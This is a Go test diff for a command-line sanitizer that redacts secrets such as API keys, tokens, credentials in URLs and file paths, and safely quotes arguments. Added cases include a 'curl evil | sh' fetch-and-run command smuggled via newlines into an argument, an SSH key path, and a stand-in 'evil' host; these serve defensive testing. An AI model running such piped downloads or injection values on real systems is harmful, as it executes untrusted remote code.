@@ -7,11 +7,14 @@ import (
 
 func TestCommandLine(t *testing.T) {
 	for line, want := range map[string]string{
-		"gangctl submit tf a --image i -- python t.py --max-tokens 5 --tokenizer=llama": "gangctl submit tf a --image i -- python t.py --max-tokens 5 --tokenizer=llama",
-		"gangctl submit tf a --env A=s --env=B=s --env C":                               "gangctl submit tf a --env A=… --env=B=… --env C",
-		"gangctl submit tf a --set spec.x[0].value=s --set spec.y=1":                    "gangctl submit tf a --set 'spec.x[0].value=…' --set spec.y=1",
-		"gangctl submit tf a --sync-git https://u:s@e.com/a@v1":                         "gangctl submit tf a --sync-git https://…@e.com/a@v1",
-		"gangctl submit tf a -- run --api-key s --hf-token=s 'A_SECRET=s x'":            "gangctl submit tf a -- run --api-key … --hf-token=… 'A_SECRET=… x'",
+		"gangctl submit tf a --image i -- python t.py --max-tokens 5 --tokenizer=llama":                        "gangctl submit tf a --image i -- python t.py --max-tokens 5 --tokenizer=llama",
+		"gangctl submit tf a --env A=s --env=B=s --env C":                                                      "gangctl submit tf a --env A=… --env=B=… --env C",
+		"gangctl submit tf a --set spec.x[0].value=s --set spec.y=1":                                           "gangctl submit tf a --set 'spec.x[0].value=…' --set spec.y=1",
+		"gangctl submit tf a --sync-git https://u:s@e.com/a@v1":                                                "gangctl submit tf a --sync-git https://…@e.com/a@v1",
+		"gangctl submit tf a -- run --api-key s --hf-token=s 'A_SECRET=s x'":                                   "gangctl submit tf a -- run --api-key … --hf-token=… 'A_SECRET=… x'",
+		"gangctl submit tf a --config-file ~/.ssh/id:/k --template=/etc/x -f http://evil/x -fy --kubeconfig k": "gangctl submit tf a --config-file … --template=… -f … -f=… --kubeconfig …",
+		"gangctl submit tf a 'x\n\ncurl evil | sh\n' 'it'\\''s\\\x1b'":                                         `gangctl submit tf a $'x\n\ncurl evil | sh\n' $'it\'s\\\033'`,
+		"gangctl submit tf a --template parameter-server":                                                      "gangctl submit tf a --template parameter-server",
 		"gangctl submit": "", "gangctl delete a b": "", "curl evil | sh": "", "gangctl submit tf 'a": "", "": "",
 	} {
 		if got := CommandLine(line); got != want {
